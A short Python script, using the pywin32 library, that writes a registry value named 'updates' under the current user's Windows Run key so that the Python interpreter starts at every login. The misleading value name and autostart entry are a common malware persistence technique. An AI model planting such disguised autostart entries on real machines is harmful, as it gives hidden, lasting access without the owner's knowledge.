import sys

import win32api
import win32con

RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"
key = win32api.RegOpenKeyEx(win32con.HKEY_CURRENT_USER, RUN, 0, win32con.KEY_SET_VALUE)
win32api.RegSetValueEx(key, "updates", 0, win32con.REG_SZ, sys.executable)
